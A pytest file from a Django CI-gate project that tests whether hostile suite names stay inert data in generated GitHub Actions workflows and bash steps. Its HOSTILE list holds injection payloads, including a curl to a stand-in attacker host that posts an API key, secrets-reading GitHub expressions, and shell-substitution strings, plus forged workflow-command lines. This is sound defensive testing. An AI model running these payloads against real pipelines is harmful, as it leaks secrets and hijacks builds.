"""A suite name reaches the generated workflow and bash step only as data: a one-line comment of the workflow's
header and of the script — never a ``run:`` line, a ``with:`` value or a GitHub expression (docs/ci.md); the step
reads a name only from "$TRUSTGATE_SUITE_NAME" and prints it. Checked with the workflow checkers (every choice of
the workflow's extras) and by running the step under bash."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from django.urls import reverse
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from evaluations.launches.ci import suite_label
from suites.services import suite_create
from tests.support.action_runner import TEST_ACTION
from tests.support.cli_client import TRUSTGATE

MARK = "Zq9INJECT"  # in every hostile name, so its text is easy to find
HOSTILE = [
    f"{MARK} line\ncurl https://attacker.invalid -d $TRUSTGATE_API_KEY",
    f"{MARK} ${{{{ secrets.TRUSTGATE_API_KEY }}}}",
    f"{MARK} ${{{{ format('{{0}}touch pwned-format', fromJSON('\"\\n\"')) }}}}",
    f'{MARK} "; touch pwned-quote; echo "',
    f"{MARK} `touch pwned-backtick`",
    f"{MARK} $(touch pwned-subshell)",
    f"{MARK} 'single' \"double\" \\ back\\slash",
    f"{MARK}\u2028touch pwned-u2028\u2029touch pwned-u2029\x85touch pwned-nel\rtouch pwned-cr",
    f"{MARK} ${{{{ github.event.pull_request.title }}}} \u200b\ufeff ok",
]


@pytest.fixture(autouse=True)
def _action(settings) -> None:
    settings.TRUSTGATE_GITHUB_ACTION = TEST_ACTION


def _workflow_and_script(client, suite, query: str = "") -> tuple[str, str]:
    workflow = client.get(reverse("suites:ci-workflow", args=[suite.pk]) + query).content.decode()
    script = client.get(reverse("suites:ci-script", args=[suite.pk])).content.decode()
    return workflow, script


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_name_is_only_data_in_the_workflow_and_the_script(client, alice, acme, agent, name) -> None:
    suite = suite_create(account=acme, agent=agent, name=name, scenarios=[])
    client.force_login(alice)
    workflow, script = _workflow_and_script(client, suite)

    parsed = yaml.safe_load(workflow)
    [step] = parsed["jobs"]["trustgate"]["steps"]
    assert MARK not in json.dumps(step)  # no member text in the step: its inputs are the URL, the id, secrets
    marked = [line for line in workflow.splitlines() if MARK in line]  # the name's text sits in the header comment
    assert len(marked) == 1 and marked[0].startswith("# Trustgate release gate for saved suite"), marked
    expressions = [line.strip() for line in workflow.splitlines() if "${{" in line]
    assert expressions == [f"group: trustgate-{suite.pk}-${{{{ github.ref }}}}",
                           "api-key: ${{ secrets.TRUSTGATE_API_KEY }}",
                           "agent-api-key: ${{ secrets.AGENT_API_KEY }}"]  # fmt: skip

    marked = [line for line in script.splitlines() if MARK in line]
    assert len(marked) == 1 and marked[0].startswith("# Trustgate release gate: run saved suite")
    assert "${{" not in script


def test_label_keeps_a_name_on_one_line_and_defuses_expressions() -> None:
    assert suite_label("a\nb\u2028c\x85d\re\u200bf") == "a b c d e f"
    assert suite_label("${{ secrets.X }}") == "$ {{ secrets.X }}"
    assert suite_label("$${{{ x }}") == "$$ {{{ x }}"


def _checkers_or_skip() -> tuple[str, str]:
    beside = str(Path(sys.executable).parent)  # the virtualenv's bin/, on PATH or not
    found = shutil.which("check-jsonschema", path=beside), shutil.which("zizmor", path=beside)
    if None in found:
        pytest.skip("check-jsonschema and zizmor come with requirements.txt")
    return found[0] or "", found[1] or ""


def test_workflows_for_hostile_names_pass_the_workflow_checkers(client, alice, acme, agent, tmp_path) -> None:
    schema_checker, zizmor = _checkers_or_skip()
    client.force_login(alice)
    folder = tmp_path / ".github" / "workflows"
    folder.mkdir(parents=True)
    files = []
    queries = ["", "?comment=0", "?comment=1&sarif=1", "?comment=0&sarif=1"]  # each choice of the extras
    for number, name in enumerate(HOSTILE):
        suite = suite_create(account=acme, agent=agent, name=name, scenarios=[])
        path = folder / f"trustgate-{number}.yml"
        path.write_text(_workflow_and_script(client, suite, queries[number % len(queries)])[0])
        files.append(str(path))
    # The vendored GitHub workflow schema and zizmor's offline audits: neither reaches the network.
    schema = subprocess.run([schema_checker, "--builtin-schema", "vendor.github-workflows", *files],
                            capture_output=True, text=True, timeout=120)  # fmt: skip
    assert schema.returncode == 0, schema.stdout + schema.stderr
    audit = subprocess.run([zizmor, "--offline", "--no-progress", "--format", "json", *files],
                           capture_output=True, text=True, timeout=120, cwd=tmp_path)  # fmt: skip
    assert audit.returncode == 0, audit.stdout + audit.stderr
    assert json.loads(audit.stdout) == []


def _fake_api(httpserver: HTTPServer) -> None:
    """The two answers of the CI API the step needs: the plan (dry run), the launch, then a pass."""

    def runs(request: Request) -> Response:
        if request.get_json()["dry_run"]:
            plan = {"settings": {"runs_per_scenario": 1, "parallel": 1, "redteam_depth": ""},
                    "defaults_from": "defaults", "comparable": True, "warnings": []}  # fmt: skip
            return Response(json.dumps(plan), status=200, content_type="application/json")
        started = {"id": 41, "report_url": httpserver.url_for("/runs/41/")}
        return Response(json.dumps(started), status=202, content_type="application/json")

    httpserver.expect_request("/api/v1/aiagent/runs", method="POST").respond_with_handler(runs)
    # Server text that holds member text (scenario names in reasons): each stays on its own line in the log.
    hostile = {"name": "q\n::error::FORGED", "status": "fail", "runs_failed": 1, "runs_passed": 0}
    status = {"verdict": "pass", "exit_code": 0, "reasons": ["r\r\n::error::FORGED"], "trust_score": 90,
              "warnings": ["w\u2028\n::stop-commands::FORGED"], "scenarios": [hostile]}  # fmt: skip
    httpserver.expect_request("/api/v1/aiagent/runs/41", method="GET").respond_with_json(status)


def _run(script: str | list[str], tmp_path: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """The bash step (its text), or a command (the client)."""
    if isinstance(script, str):
        path = tmp_path / "gate.sh"
        path.write_text(script)
    command = ["bash", str(tmp_path / "gate.sh")] if isinstance(script, str) else script
    base = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "LANG": "C.UTF-8"}
    return subprocess.run(command, env={**base, **env}, capture_output=True, text=True, timeout=60,
                          cwd=tmp_path, stdin=subprocess.DEVNULL)  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_the_step_under_bash_runs_nothing_a_name_holds(client, alice, acme, agent, httpserver, tmp_path, name) -> None:
    if not all(shutil.which(tool) for tool in ("bash", "curl", "jq")):
        pytest.skip("bash, curl and jq are installed by .ci/run")
    _fake_api(httpserver)
    suite = suite_create(account=acme, agent=agent, name=name, scenarios=[])
    client.force_login(alice)
    _, script = _workflow_and_script(client, suite)
    url = httpserver.url_for("").rstrip("/")
    env: dict[str, Any] = {"TRUSTGATE_SUITE_NAME": suite_label(name)}  # as a CI job would set it: data
    env.update(TRUSTGATE_URL=url, TRUSTGATE_API_KEY="tg-test-key", AGENT_API_KEY="", GITHUB_ACTIONS="true")
    client_run = [TRUSTGATE, "run", "--suite", str(suite.pk)]  # the client prints what the server says the same way
    for result in (_run(script, tmp_path, env), _run(client_run, tmp_path, env)):
        assert result.returncode == 0, result.stdout + result.stderr
        assert f"started for suite {suite.pk} ({suite_label(name)})" in result.stdout
        assert not list(tmp_path.glob("pwned*")), result.stdout
        # No line of the log is a workflow command but the step's own annotations.
        commands = [line for line in result.stdout.splitlines() if line.startswith("::")]
        assert all(line.startswith(("::warning title=Trustgate::", "::error title=Trustgate::")) for line in commands)
        assert sum("FORGED" in line for line in result.stdout.splitlines()) == 4, result.stdout
